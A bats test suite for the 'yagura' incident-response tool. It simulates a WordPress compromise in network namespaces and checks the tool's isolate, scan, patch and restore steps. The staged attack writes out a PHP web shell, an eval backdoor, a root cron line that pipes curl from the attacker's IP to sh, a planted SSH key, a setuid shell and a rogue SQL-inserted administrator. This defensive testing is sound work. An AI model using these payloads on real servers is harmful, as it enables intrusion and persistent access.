#!/usr/bin/env bats
# A site is defaced and the server attacks its neighbour; the runbook leads to the end by its
# commands alone. Administrator, attacker, neighbour and server are network namespaces of the test,
# the server with files, processes and an init of its own (helpers/host).
load lib

NS=in$$
SHOP=$WORK/root/var/www/shop

setup() {
    as_root
    program ip nft nginx curl unshare pivot_root openssl sqlite3 php mariadbd mariadb
    ls /usr/sbin/php-fpm* >/dev/null 2>&1 || skip "php-fpm is not installed"
    HOST_STATE=$WORK/host-state
    mkdir -m 700 "$HOST_STATE"
    network
    "$HELPERS/host" make "$WORK/root"
    shop
    config "health: [http://shop.example/]"
    cp -a "$WORK/root" "$WORK/root.before"
    [ -z "$WORDPRESS" ] || cp -a "$BATS_FILE_TMPDIR/db" "$WORK/root/var/lib/mysql"
    boot
    connect operator
    MACHINE=0
}
teardown() {
    local ns file
    [ ! -e "$WORK/host.pid" ] || power_off || true
    umount -l "$HOST_STATE" 2>/dev/null || true
    for file in "$WORK"/*.pid; do ends "$(basename "$file" .pid)"; done
    for ns in srv adm att nei; do ip netns delete "$NS-$ns" 2>/dev/null || true; done
}
tell() { echo "# $*" >&3; }
in_ns() { local ns=$1; shift; ip netns exec "$NS-$ns" "$@"; }
# ends NAME: what was started under this name, if anything was
ends() {
    local pid
    pid=$(cat "$WORK/$1.pid" 2>/dev/null) || return 0
    kill "$pid" 2>/dev/null || :
    wait "$pid" 2>/dev/null || :
    rm -f "$WORK/$1.pid"
}
# keep NAME NS COMMAND ...: in the background until the test ends, or NAME is started again; it has
# to say something first
keep() {
    local name=$1 ns=$2
    shift 2
    ends "$name"
    rm -f "$WORK/$name.ready"
    ip netns exec "$NS-$ns" "$@" >"$WORK/$name.ready" 2>"$WORK/$name.errors" 3>&- </dev/null &
    echo $! >"$WORK/$name.pid"
    for _ in $(seq 200); do grep -q . "$WORK/$name.ready" && return 0; sleep 0.1; done
    cat "$WORK/$name.errors"
    return 1
}
# The server is 10.8.N.1, and 10.8.N.2 of: 1 administrator, 2 attacker, 3 neighbour
network() {
    local side n=0
    ip netns add "$NS-srv" 2>/dev/null || skip "network namespaces cannot be made here"
    in_ns srv ip link set lo up
    for side in adm att nei; do
        n=$((n + 1))
        ip netns add "$NS-$side"
        in_ns "$side" ip link set lo up
        ip link add "to$side" netns "$NS-srv" type veth peer name eth0 netns "$NS-$side" || skip "no veth here"
        in_ns srv ip address add "10.8.$n.1/24" dev "to$side"
        in_ns srv ip link set "to$side" up
        in_ns $side ip address add "10.8.$n.2/24" dev eth0
        in_ns $side ip link set eth0 up
        in_ns $side ip route add default via "10.8.$n.1"
    done
    keep neighbour nei "$HELPERS/raid" watch 22 "$WORK/raided"
}
# Debian's WordPress where it can be had, else a site as small as can be; what is published of it
shop() {
    WORDPRESS=
    mkdir -p "$SHOP"
    if (cd "$BATS_FILE_TMPDIR" && { [ -d package ] || { apt-get download wordpress && dpkg-deb -x wordpress_*.deb package; }; }) >/dev/null 2>&1; then
        cp -aL "$BATS_FILE_TMPDIR/package/usr/share/wordpress/." "$SHOP/" 2>/dev/null || :
        find "$SHOP" -type l -delete # to packages that are not installed
        SITE="WordPress $(sed -n 's/^.wp_version = .\([0-9.]*\).*/\1/p' "$SHOP/wp-includes/version.php")"
        WORDPRESS=1
        wordpress
    else
        SITE="a small one, as WordPress cannot be had here"
        echo '<?php echo "HOSHI";' >"$SHOP/index.php"
        echo '<p>HOSHI</p>' >"$SHOP/readme.html"
        mkdir "$SHOP/wp-includes"
        echo '<?php $wp_version = "0";' >"$SHOP/wp-includes/version.php"
        echo '<?php' >"$SHOP/wp-config.php"
    fi
    # SITE_FILES: bench/run wants a larger one
    for ((i = $(find "$SHOP" -type f | wc -l); i < ${SITE_FILES:-0}; i++)); do
        mkdir -p "$SHOP/pages/$((i % 100))"
        printf '<h1>%d</h1>%4000d\n' "$i" "$i" >"$SHOP/pages/$((i % 100))/$i.html"
    done
    mkdir -p "$SHOP/wp-content/uploads"
    chown 33:33 "$SHOP/wp-content/uploads"
}
# A theme that shows what only the database knows, the settings, and once for all tests the database:
# installed by WordPress itself
wordpress() {
    local name theme=$SHOP/wp-content/themes/hoshi
    {
        printf "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shop');\ndefine('DB_PASSWORD', 'hoshi-db');\ndefine('DB_HOST', 'localhost');\n"
        for name in AUTH_KEY SECURE_AUTH_KEY LOGGED_IN_KEY NONCE_KEY AUTH_SALT SECURE_AUTH_SALT LOGGED_IN_SALT NONCE_SALT; do
            printf "define('%s', 'hoshi-%s');\n" "$name" "$name"
        done
        # nothing leaves this machine
        printf "define('WP_HTTP_BLOCK_EXTERNAL', true);\ndefine('DISABLE_WP_CRON', true);\n\$table_prefix = 'wp_';\nif (!defined('ABSPATH')) define('ABSPATH', __DIR__ . '/');\nrequire_once ABSPATH . 'wp-settings.php';\n"
    } >"$SHOP/wp-config.php"
    mkdir -p "$theme"
    echo '/* Theme Name: hoshi */' >"$theme/style.css"
    echo '<h1><?php bloginfo("name"); ?></h1><?php while (have_posts()) { the_post(); the_title("<h2>", "</h2>"); }' >"$theme/index.php"
    [ -d "$BATS_FILE_TMPDIR/db" ] || database
}
database() {
    local db=$BATS_FILE_TMPDIR/making socket=$BATS_FILE_TMPDIR/db.sock began
    began=$(date +%s%N)
    mariadb-install-db --no-defaults --user=root --datadir="$db" --skip-test-db --innodb-log-file-size=4M \
        --auth-root-authentication-method=socket >"$WORK/db.log" 2>&1
    mariadbd --no-defaults --user=root --datadir="$db" --socket="$socket" --skip-networking --pid-file="$db.pid" \
        --performance-schema=off --innodb-buffer-pool-size=16M --innodb-log-file-size=4M >"$WORK/db.log" 2>&1 3>&- </dev/null &
    echo $! >"$WORK/db.pid"
    for _ in $(seq 600); do [ ! -S "$socket" ] || break; sleep 0.1; done
    mariadb --no-defaults -S "$socket" -e "create database shop; grant all on shop.* to shop@localhost identified by 'hoshi-db'"
    php -d mysqli.default_socket="$socket" "$HELPERS/wordpress.php" "$SHOP" install hoshi
    mariadb --no-defaults -S "$socket" shop -e "update wp_options set option_value = 'http://shop.example' where option_name in ('siteurl', 'home')"
    ends db
    chown -R 106:106 "$db"
    mv "$db" "$BATS_FILE_TMPDIR/db"
    tell "a database, and WordPress installed in it: $((($(date +%s%N) - began) / 1000000)) ms"
}
# config LINE ...: what the server has in /etc/yagura/yagura.yaml
config() {
    mkdir -p "$WORK/root/etc/yagura"
    printf '%s\n' "$@" >"$WORK/root/etc/yagura/yagura.yaml"
}
boot() { keep host srv "$HELPERS/host" boot "$WORK/root" "$BUILD" "$HOST_STATE"; }
# The power is cut: no rule is left but those that a start loads.
power_off() {
    local pid
    pid=$(cat "$WORK/host.pid")
    kill -KILL "$(pgrep -P "$pid")" "$pid" 2>/dev/null || :
    wait "$pid" 2>/dev/null || :
    rm "$WORK/host.pid"
    # the kernel ends what its init left
    for _ in $(seq 100); do pgrep -f "host inside $WORK/root" >/dev/null || break; sleep 0.05; done
    in_ns srv nft flush ruleset
}
connect() {
    ends "$1"
    rm -f "$WORK/$1.sock"
    ip netns exec "$NS-adm" "$HELPERS/session" connect 10.8.1.1 22 "$WORK/$1.sock" >/dev/null 2>&1 3>&- </dev/null &
    echo $! >"$WORK/$1.pid"
    for _ in $(seq 300); do [ -S "$WORK/$1.sock" ] && return 0; sleep 0.1; done
    return 1
}
# on SESSION COMMAND: in the administrator's shell
on() { local name=$1; shift; "$HELPERS/session" do "$WORK/$name.sock" "${WAIT:-120}" "export LC_ALL=C.UTF-8 PATH=/opt/yagura:/usr/sbin:/usr/bin:/sbin:/bin; $*"; }
# respond CODE WORDS: as the operator; the time that it takes is the machine's
respond() {
    local wanted=$1
    shift
    BEGAN=$(date +%s%N)
    code "$wanted" on "${AT:-operator}" "yagura respond $*"
    LAST=$((($(date +%s%N) - BEGAN) / 1000000))
    MACHINE=$((MACHINE + LAST))
}
# ids: of what the last step listed
ids() { sed 's/.*\x1b\[K//' <<<"$output" | grep -oE '^! ([0-9a-f]{8}|unread:[^ ]+) ' | cut -c3- | sort -u; }
sign() {
    local because=$1 list
    shift
    list=$(tr '\n' ' ' <<<"$*")
    [ -z "${list// /}" ] || respond 0 "sign $list --because '$because'"
}
listing() { (cd "$1" && find . -printf '%P %y %m %U:%G %s\n' | sort && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
raids() { wc -l <"$WORK/raided"; }
# asked URL [curl options]: the attacker's
asked() { local url=$1; shift; in_ns att curl -s -m 20 --resolve shop.example:80:10.8.2.1 "$@" "http://shop.example$url"; }
# What the server says over loopback, while nobody else is let in
within() { local url=$1; shift; in_ns srv curl -s -m 20 --resolve shop.example:80:127.0.0.1 "$@" "http://shop.example$url"; }
# soon COMMAND: PHP looks every two seconds whether a file that it runs is another
soon() { for _ in $(seq 300); do if "$@"; then return 0; fi; sleep 0.1; done; return 1; }
answers() { grep -q "$2" <<<"$("$1" /)"; }
is_out() { [ "$(enters within "$1")" = 302 ]; }
# login USER PASSWORD: its cookies are then in $WORK/USER.jar. enters asked|within USER: the status of a
# page for those who are logged in, with these cookies (302: to the login)
login() { asked /wp-login.php -o "$WORK/said" -c "$WORK/$1.jar" -b wordpress_test_cookie=x --data-urlencode "log=$1" --data-urlencode "pwd=$2" -d testcookie=1; }
enters() { "$1" /wp-admin/profile.php -o "$WORK/said" -b "$WORK/$2.jar" -w '%{http_code}'; }
shell() { asked /wp-content/uploads/shell.php -G --data-urlencode "c=$1"; }

attack() {
    echo '<?php system($_GET["c"]);' >"$WORK/shell.php"
    asked /upload/shell.php -T "$WORK/shell.php" >/dev/null
    [ "$(shell 'id -u')" = 0 ]
    [ -z "$WORDPRESS" ] || attack_database
    shell "cd /var/www/shop && echo '<h1>defaced</h1>' >index.php && echo x >>readme.html && rm wp-includes/version.php && echo '<?php eval(\$_POST[1]);' >wp-includes/class-wp-cache.php"
    shell "echo '* * * * * root curl -s http://10.8.2.2/x | sh' >/etc/cron.d/php-sessions"
    shell "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >>/root/.ssh/authorized_keys"
    shell "cp /bin/dash /usr/local/bin/.dash && chmod 4755 /usr/local/bin/.dash"
    shell "cp /opt/helpers/raid /tmp/.raid && (setsid /usr/bin/python3 /tmp/.raid attack 10.8.3.2 22 >/dev/null 2>&1 </dev/null &)"
    grep -q defaced <<<"$(asked /)"
    for _ in $(seq 50); do [ "$(raids)" -gt 3 ] && return 0; sleep 0.1; done
    echo "the neighbour was not attacked"
    return 1
}
# With the password that lies there, an administrator, said to be an old one; and the cookies of the
# one that was there.
attack_database() {
    shell "mariadb -ushop -phoshi-db shop -e \"insert into wp_users (user_login, user_pass, user_email, user_registered) values ('wp_support', md5('kuro'), 'x@y', '2020-01-01'); insert into wp_usermeta (user_id, meta_key, meta_value) values (last_insert_id(), 'wp_capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\""
    login wp_support kuro
    [ "$(asked /wp-admin/users.php -o "$WORK/said" -b "$WORK/wp_support.jar" -w '%{http_code}')" = 200 ]
    login hoshi 'a word of the test'
    [ "$(enters asked hoshi)" = 200 ]
}
publish() {
    code 0 on operator "yagura init /var/www/shop"
    listing "$SHOP" >"$WORK/published"
}
# When the last isolation came into force: the ledger knows. From the first second on nobody is
# reached: CUT is the end of it.
tell_cut() {
    local at us
    at=$("$YAGURA" --state "$HOST_STATE" ledger show --json | grep -o 'in_force_at":"[^"]*' | tail -1 | cut -d'"' -f3)
    us=$("$YAGURA" --state "$HOST_STATE" ledger show --json | grep -o 'in_force_us":[0-9]*' | tail -1 | cut -d: -f2)
    CUT=$(($(date -d "$at" +%s) + 1)).$(date -d "$at" +%N)
    at=$(date -d "$at" +%s%N)
    [ "$at" -gt "$BEGAN" ]
    [ "$at" -lt $((BEGAN + LAST * 1000000)) ]
    tell "cut off $((us / 1000)) ms after it was decided, $(((at - BEGAN) / 1000000)) ms after it was typed at the other end; evidence and all: $LAST ms"
}
# ---- the steps, as an administrator does them ----

finish_open() { respond 0 "do open"; }
finish_isolate() {
    respond 0 "do isolate"
    tell_cut
    unwrapped
    says "- Your way in stays: 10.8.1.2:" "over a NEW connection" "yagura respond confirm"
    # whoever asks again what to do now hears it, too
    for words in next status; do
        code 1 on operator "yagura respond $words"
        unwrapped
        says "on trial: " "log in anew, and say there: yagura respond confirm"
    done
    connect second
    AT=second respond 0 "confirm"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
}
finish_administrator() {
    respond 0 "do administrator"
    says "is an account of this host" "root has uid 0" "Do you know each of these?"
    # who, over which way, and what was seen of others: in the ledger
    "$YAGURA" --state "$HOST_STATE" ledger show --json | grep '"what":"done".*"step":"administrator"' | tail -1 >"$WORK/seen"
    for seen in '"operator":{"user":"root"' '"local":true' '"connections":["10.8.1.2:' /usr/local/bin/.dash "/root/.ssh/authorized_keys SHA256:r6cc"; do
        grep -qF "$seen" "$WORK/seen"
    done
}
finish_scan() {
    respond 1 "do scan"
    tell "scan: $LAST ms"
    unwrapped
    says /etc/cron.d/php-sessions /usr/local/bin/.dash x@y shell.php class-wp-cache.php index.php readme.html version.php
    says "looking (this may take a minute)" # on a terminal nobody waits for a silent one
    # how to go on: what is to be read, to be done, to be typed
    says "what to do: yagura scan" "yagura respond do scan --quarantine" "yagura respond sign ID ... --because"
    # nothing is deleted: evidence, and in the bundle
    code 0 on operator "[ ! -e /etc/cron.d/php-sessions ] || yagura quarantine take /etc/cron.d/php-sessions /usr/local/bin/.dash --yes --because 'not ours'"
    on operator "sed -i /x@y/d /root/.ssh/authorized_keys; pkill -f /tmp/.raid; rm -f /tmp/.raid" || :
    respond "0 1 3" "do scan --quarantine --yes"
    says_not /etc/cron.d/php-sessions /usr/local/bin/.dash x@y
    local list
    list=$(ids) # of whole lines
    unwrapped
    says "shell.php was moved to" "class-wp-cache.php was moved to"
    [ ! -e "$SHOP/wp-content/uploads/shell.php" ]
    tell "to sign for: $(wc -l <<<"$list"), of these not looked at: $(grep -c unread: <<<"$list" || :)"
    sign "looked at, and known" "$list"
    respond 0 "do scan"
}
# put ASKED: the status of one more back door that somebody would leave
put() { "$1" /upload/shell2.php -T "$WORK/shell.php" -o "$WORK/said" -w '%{http_code}'; }
is_refused() { [[ "$(put "$1")" == 40[345] ]]; }
no_php_of_root() { on operator "! pgrep -u root -f 'php-fpm: poo[l]'" >/dev/null; }
finish_patch() {
    local holes=("/upload/ takes PUT from whoever asks" "The pool www of php-fpm runs the programs of its sites as root") list
    # what the attacker came in through is named, whoever asks
    [ "$(put within)" = 201 ]
    rm "$SHOP/wp-content/uploads/shell2.php"
    respond 1 "do patch"
    unwrapped
    says "${holes[@]}" "yagura explain ID" "respond sign ID ... --because" "closed or signed for: yagura respond do patch"
    # and nobody is let in before they are closed
    code 2 on operator "yagura respond do reconnect"
    unwrapped
    says "step 4 (patch) comes first"
    code 0 on operator "sed -i '/upload/,/^    }/d' /etc/nginx/sites-available/shop && sed -i 's/^\\(user\\|group\\) = root/\\1 = www-data/' /etc/php/*/fpm/pool.d/www.conf && nginx -s reload && kill -USR2 \$(pgrep -o php-fpm)"
    soon is_refused within
    soon no_php_of_root
    respond "0 1 3" "do patch"
    list=$(ids)
    unwrapped
    says_not "${holes[@]}"
    sign "no mirror in this net" "$list"
    respond 0 "do patch"
}
finish_restore() {
    respond 0 "do restore"
    unwrapped
    says "shop: as it was published with generation 1 of " "put back: "
    says_not "NO WEB SERVER ANSWERS" # the second look is with it up
    listing "$SHOP" | diff "$WORK/published" -
}
finish_passwords() {
    local secrets
    respond 1 "do passwords"
    says system-account:root salt:/var/www/shop/wp-config.php registrar:dns "signed for: yagura respond do passwords"
    [ -z "$WORDPRESS" ] || finish_database
    secrets=$(grep -oE '^! [a-z-]+:[^ ]+' <<<"$output" | cut -c3- | grep -v ^system-account)
    code 0 on operator "echo root:kanuma-$RANDOM | chpasswd"
    sign "changed where it lies" "$secrets"
    respond 0 "do passwords"
}
# What nobody but the administrator of the database can do, with what the step says
finish_database() {
    local file=/var/www/shop/wp-config.php command said=$output
    unwrapped
    says "The users in the database of $file were not looked at" "then sign for cms-user:$file"
    # as it is pasted
    command=$(sed -n '/mariadb shop -e "/,/DESC"/p' <<<"$said" | tr -s '\n ' ' ')
    code 0 on operator "$command"
    says wp_support hoshi@mirror.example
    code 0 on operator "php /opt/helpers/wordpress.php /var/www/shop delete wp_support"
    code 0 on operator "$command"
    says_not wp_support
    # a new password in one of the two places is none: the site says so
    code 0 on operator "mariadb -e \"alter user shop@localhost identified by 'kanuma-db'\""
    [ "$(within / -o "$WORK/said" -w '%{http_code}')" = 500 ]
    code 0 on operator "yagura publish shop --json -- sed -i s/hoshi-db/kanuma-db/ $file"
    soon answers within HOSHI
    # who took a cookie is in, until the salts are new
    [ "$(enters within hoshi)" = 200 ]
    respond 0 "rotate $file"
    soon is_out hoshi
    respond 1 "do passwords"
    says_not "! salt:$file" "! database:$file"
    says "! cms-user:$file"
    # of all files, that one alone
    listing "$SHOP" >"$WORK/published.new"
    [ -z "$(diff "$WORK/published" "$WORK/published.new" | grep '^[<>]' | grep -v 'wp-config.php')" ]
    mv "$WORK/published.new" "$WORK/published"
}
finish_reconnect() { respond 0 "do reconnect"; }
finish_report() {
    respond 0 "do report"
    # visitors saw it until it was cut off, and not until somebody began to write
    local cut
    cut=$("$YAGURA" --state "$HOST_STATE" ledger show --json | grep -o 'in_force_at":"[^".]*' | tail -1 | cut -d'"' -f3)
    grep -qF "to ${cut/T/ }" "$HOST_STATE"/evidence/*/report-1/notice.en.txt
    # what was done, in words for visitors
    grep -q '^  ・コンテンツを、当サイトが公開した正しい状態に戻しました。$' "$HOST_STATE"/evidence/*/report-1/notice.ja.txt
    [ "$(grep -c '^  - The s[a-z]* was ' "$HOST_STATE"/evidence/*/report-1/notice.en.txt)" = 3 ] # cut off, searched, opened again
    if grep -qE 'ローカル管理者|対応の開始' "$HOST_STATE"/evidence/*/report-1/notice.ja.txt; then return 1; fi
    # when each plant came, also of those that were deleted by hand
    local plant
    for plant in /etc/cron.d/php-sessions /usr/local/bin/.dash /root/.ssh/authorized_keys; do
        grep '"what":"made, as the kernel says (btime)"\|(ctime)"' "$HOST_STATE"/evidence/*/report-1/timeline.jsonl | grep -q "\"subject\":\"$plant\""
    done
}
# lead STEP ...: BEFORE is called with each step first
lead() {
    local step
    for step; do
        ${BEFORE:-:} "$step"
        "finish_$step"
    done
}
begin() {
    publish
    sleep 1.1
    local sign
    sign=$(date -u +%FT%TZ)
    attack
    MACHINE=0
    respond 0 "start --first-sign $sign --because 'the page says defaced'"
    [ "$(grep -c 'yagura respond next' <<<"$output")" = 1 ]
    ! grep -q "NOTHING KEEPS IT RIGHT" <<<"$output" || says "yagura respond do open --because"
}
# passwords_alone: a runbook of that step
passwords_alone() {
    cat >"$HOST_STATE/passwords.yaml" <<'YAML'
id: passwords
title: Passwords
steps:
  - {id: open, title: Open, text: x, why: x, action: open, verify: [opened], undo: no}
  - {id: passwords, title: Passwords, text: x, why: x, action: passwords, verify: [passwords-changed], undo: no}
  - {id: report, title: Report, text: x, why: x, action: report, verify: [report-written], undo: no}
YAML
}
# Whatever happened on the way: this holds in the end.
proved() {
    respond 0 close
    listing "$SHOP" | diff "$WORK/published" -
    code 0 on operator "yagura verify --all"
    cmp <(asked /readme.html) "$SHOP/readme.html"
    grep -q HOSHI <<<"$(asked /)"
    [ -z "$WORDPRESS" ] || database_proved
    # nothing came to the neighbour since the cut
    [ "$(awk -v cut="$CUT" '$1 > cut' "$WORK/raided" | wc -l)" = 0 ]
    # a second try
    is_refused asked
    [ ! -e "$SHOP/wp-content/uploads/shell2.php" ]
    [[ "$(asked /upload/shell.php -T "$WORK/shell.php" -w '%{http_code}' | tail -c 3)" != 2* ]]
    [ "$(asked /wp-content/uploads/shell.php -w '%{http_code}' | tail -c 3)" = 404 ]
    [ ! -e "$SHOP/wp-content/uploads/shell.php" ]
    code 0 on operator "yagura ledger verify"
}
# The front page comes from the database, and neither the planted administrator nor a cookie that was
# taken opens it; its owner gets in.
database_proved() {
    grep -q '<h2>' <<<"$(asked /)"
    login wp_support kuro
    [ "$(enters asked wp_support)" = 302 ]
    [ "$(enters asked hoshi)" = 302 ]
    login hoshi 'a word of the test'
    [ "$(enters asked hoshi)" = 200 ]
}
# fill KIB: the disk of the state, but for so much
fill() {
    local free
    free=$(df --output=avail -k "$HOST_STATE" | tail -1)
    [ "$free" -le "$1" ] || dd if=/dev/zero bs=1K count=$((free - $1)) of="$HOST_STATE/filler$1" 2>/dev/null
}
every="isolate administrator scan patch restore passwords reconnect report"
# shellcheck disable=SC2086 # a list of steps

@test "from the alarm to the reconnected server, by the runbook's commands alone" {
    begin
    # what it would do, and nothing is done
    respond 1 "do isolate --dry-run"
    unwrapped
    says "The kernel takes the rules (web)" "Nothing was done"
    [ -z "$(in_ns srv nft list tables)" ]
    lead isolate
    # the attacker's program goes on, in vain; what it is and whom it attacked is evidence
    code 0 on operator "pgrep -f /tmp/.raid"
    grep -q '"/tmp/.raid","attack","10.8.3.2"' "$HOST_STATE"/evidence/*/first-1/processes.jsonl
    grep -q '"remote":"10.8.3.2:22"' "$HOST_STATE"/evidence/*/first-1/sockets.jsonl
    lead ${every#isolate }
    # nginx listens over IPv4 and IPv6: one line
    code 0 on operator "yagura ports --close --dry-run"
    [ "$(grep -c '80/tcp' <<<"$output")" = 1 ]
    tell "the site: $SITE; the machine's own time from the alarm to the report: $MACHINE ms"
    code 0 on operator "echo still here"
    says "still here"
    proved
}

@test "reconnecting is undone: cut off on trial again, and confirmed again" {
    cat >"$HOST_STATE/short.yaml" <<'YAML'
id: short
title: Short
steps:
  - {id: isolate, title: Isolate, text: x, why: x, action: isolate, verify: [isolated], undo: {action: open-network}}
  - {id: reconnect, title: Reconnect, text: x, why: x, action: open-network, verify: [reconnected], undo: {action: isolate}}
YAML
    respond 0 "start --runbook /var/lib/yagura/short.yaml --json"
    says '{"type":"note","text":"This host is cut off, on trial for 600 seconds.'
    # a slip of the pen meanwhile, and the trial goes on
    code 2 on operator "yagura respond do isolate --mode nothing"
    connect second
    AT=second respond 0 confirm
    # the notice answers at the sites' ports: its own is nobody's to shut
    code 0 on operator "yagura ports --close --dry-run"
    grep yagura-notice <<<"$output" >"$WORK/notice"
    grep -q "stays: the notice" "$WORK/notice"
    if grep -q "is shut" "$WORK/notice"; then return 1; fi
    unwrapped
    says "This host is isolated (web), and that goes first"
    code 0 on operator "yagura ports --close --dry-run --json"
    holds '[o["open"] for o in of("closing") if o["process"] == "yagura-notice"][0] is True' \
        'summary["closing"] == sum(not o["open"] for o in of("closing"))'
    # what isolation did is told after the confirmation, too
    code "0 1" on operator "yagura respond status --json"
    holds '[o["result"]["mode"] for o in every if o.get("step") == "isolate"] == ["web"]' \
        'all({"ended_connections", "in_force_at", "evidence"} <= set(o["result"]) and o["result"]["operator"]["connections"][0].startswith("10.8.1.2:") for o in every if o.get("step") == "isolate")' \
        'all(o["result"]["confirmed_by"]["connections"] != o["result"]["operator"]["connections"] for o in every if o.get("step") == "isolate")'
    respond 0 "do reconnect"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 200 ]
    respond "0 1" "undo reconnect"
    unwrapped
    says "over a NEW connection"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
    connect third
    AT=third respond 0 confirm
    says "is undone"
    code 0 on operator "yagura respond status --json || :"
    holds 'next(o for o in every if o.get("step") == "reconnect")["state"] == "undone"'
    in_ns srv nft list table inet yagura | grep -q chain
    respond 0 "do reconnect"
    respond 0 close
    [ -z "$(in_ns srv nft list tables)" ]
}

@test "closed with the host still cut off: said, with the command that opens it" {
    cat >"$HOST_STATE/cut.yaml" <<'YAML'
id: cut
title: Cut
steps:
  - {id: isolate, title: Isolate, text: x, why: x, action: isolate, verify: [isolated], undo: {action: open-network}}
YAML
    respond 0 "start --runbook /var/lib/yagura/cut.yaml"
    connect second
    AT=second respond 0 confirm
    respond 0 close
    says "This host is isolated (web)" "To open it: yagura respond undo isolate"
    [ "$(asked / -w '%{http_code}' | tail -c 3)" = 503 ]
    respond 0 status
    says "This host is isolated (web)" "yagura respond undo isolate"
    respond 0 "undo isolate"
    says "is undone"
    [ -z "$(in_ns srv nft list tables)" ]
    respond 0 status
    says closed
    says_not isolated
    respond 2 "do isolate"
    code 0 on operator "yagura ledger verify"
}

@test "passwords: of a WordPress of many sites the administrators of each, and those above all" {
    [ -n "$WORDPRESS" ] || skip "$SITE"
    local file=/var/www/shop/wp-config.php helper="php /opt/helpers/wordpress.php /var/www/shop" command
    passwords_alone
    code 0 on operator "$helper network"
    sed -i "s/^.table_prefix/define('MULTISITE', true);\ndefine('SUBDOMAIN_INSTALL', false);\ndefine('DOMAIN_CURRENT_SITE', 'localhost');\ndefine('PATH_CURRENT_SITE', '\/');\ndefine('SITE_ID_CURRENT_SITE', 1);\ndefine('BLOG_ID_CURRENT_SITE', 1);\n&/" "$WORK/root$file"
    code 0 on operator "$helper branch kuro && $helper raise aka"
    publish
    respond 0 "start --runbook /var/lib/yagura/passwords.yaml"
    respond 1 "do passwords"
    command=$(sed -n '/\(mariadb\|mysql\) shop -e "/,/DESC"/p' <<<"$output" | tr -s '\n ' ' ')
    unwrapped
    says_not "put in for DATABASE"
    code 0 on operator "$command"
    says "hoshi@mirror.example"
    grep -qE 'kuro@mirror.example.*wp_2_capabilities' <<<"$output"
    grep -qE 'aka@mirror.example.*site_admins' <<<"$output"
    # a prefix that is computed is not guessed, and neither is whether it has many sites
    sed -i "s/^.table_prefix.*/\$table_prefix = getenv('PREFIX') ?: 'wp_';/" "$WORK/root$file"
    respond 1 "do passwords"
    says "FROM PREFIX_users" "JOIN PREFIX_sitemeta"
    unwrapped
    says "put in for DATABASE and PREFIX_ what it sees"
    grep -qE '(mariadb|mysql) shop -e "' <<<"$output"
}

@test "passwords: shut and taken back, thrown out, made anew, and seen to have changed" {
    local file=/var/www/shop/wp-config.php name
    passwords_alone
    {
        printf "<?php\ndefine('DB_PASSWORD', 'hoshi-db');\n"
        for name in AUTH_KEY SECURE_AUTH_KEY LOGGED_IN_KEY NONCE_KEY AUTH_SALT SECURE_AUTH_SALT LOGGED_IN_SALT NONCE_SALT; do
            printf "define('%s', 'hoshi-%s');\n" "$name" "$name"
        done
    } >"$WORK/root$file"
    echo '<?php class JConfig { public $db = "joomla"; }' >"$WORK/root/var/www/shop/configuration.php"
    code 0 on operator "useradd -m ada && echo ada:hoshi-ada | chpasswd && echo hoshi-key >/root/.git-credentials"
    # of another WordPress, in a folder of the first one, the keys are in no file
    local inner=/var/www/shop/blog/wp-config.php
    mkdir "$WORK/root/var/www/shop/blog"
    echo "<?php define('DB_PASSWORD', 'hoshi-blog');" >"$WORK/root$inner"
    # names as an intruder chooses them
    local folder=$WORK/root/var/www/shop kind
    mkdir "$folder/$(printf 'x\ny')" "$folder/$(printf 'w\nz')"
    chmod 0 "$folder/$(printf 'x\ny')"
    echo '<?php' >"$folder/$(printf 'w\nz')/wp-config.php"
    publish
    respond 0 "start --runbook /var/lib/yagura/passwords.yaml"
    respond 1 "do passwords"
    # what that file does not say is not guessed
    grep -qE '(mariadb|mysql) DATABASE -e "SELECT ID' <<<"$output"
    says "FROM PREFIX_users JOIN PREFIX_usermeta"
    cp "$WORK/root$file" "$WORK/wp-config"
    sed -i 's/$/ $table_prefix = "x_";/; 2s/^/define("DB_NAME", "y; id");/' "$WORK/root$file"
    respond 1 "do passwords"
    says "DATABASE -e" "PREFIX_users"
    cat "$WORK/wp-config" >"$WORK/root$file"
    unwrapped
    says "The users in the database of $file were not looked at" "/var/www/shop/configuration.php were not looked at"
    respond 1 "do passwords"
    says system-account:ada system-account:root salt:$file database:$file deploy-key:/root/.git-credentials registrar:dns
    # each names what to type, or where to go
    unwrapped
    says "passwd ada; or, if nobody needs it: yagura respond lock ada (yagura respond expire ada leaves the hash" \
        "passwd root; then throw out its other sessions: yagura respond end-sessions root" \
        "login cookies yagura respond rotate $file" "login cookies it has none, and WordPress keeps others in its database" \
        "yagura respond rotate $inner; then sign for it: yagura respond sign salt:$inner --because" "under /wp-admin/users.php" \
        "ALTER USER" "then sign for it: yagura respond sign registrar:dns --because"
    # of many the last line names five, and says that there are more
    says ", ... yagura respond sign NAME"
    # by what is shown of its name, each can be signed for, and what could not be looked at as well
    local weak='setpriv --bounding-set=-dac_override,-dac_read_search --inh-caps=-dac_override,-dac_read_search'
    code 1 on operator "$weak yagura respond do passwords"
    says 'unread:/var/www/shop/x\x0ay' 'salt:/var/www/shop/w\x0az/wp-config.php'
    for kind in 'unread:/var/www/shop/x\x0ay' {database,salt,cms-user}':/var/www/shop/w\x0az/wp-config.php'; do
        respond 0 "sign '$kind' --because 'it is ours'"
    done
    code 1 on operator "$weak yagura respond do passwords"
    says_not 'x\x0ay' 'w\x0az'
    # a new time is no new password
    code 0 on operator "touch $file /root/.git-credentials /etc/shadow"
    respond 1 "do passwords"
    says system-account:ada salt:$file database:$file deploy-key:/root/.git-credentials
    # nor is a lost key of the marks
    rm "$HOST_STATE"/evidence/*/password-marks.key
    respond 1 "do passwords"
    says system-account:ada system-account:root salt:$file database:$file deploy-key:/root/.git-credentials

    # locked: nobody gets in, what ran is ended; and taken back
    code 0 on operator "(setsid setpriv --reuid ada --regid ada --clear-groups sleep 600 >/dev/null 2>&1 </dev/null &) ; until pgrep -u ada >/dev/null; do sleep 0.1; done"
    respond 0 "lock ada --dry-run"
    code 0 on operator "pgrep -u ada && grep '^ada:[$]' /etc/shadow"
    # where it cannot be ended, that is no success; the account is shut all the same
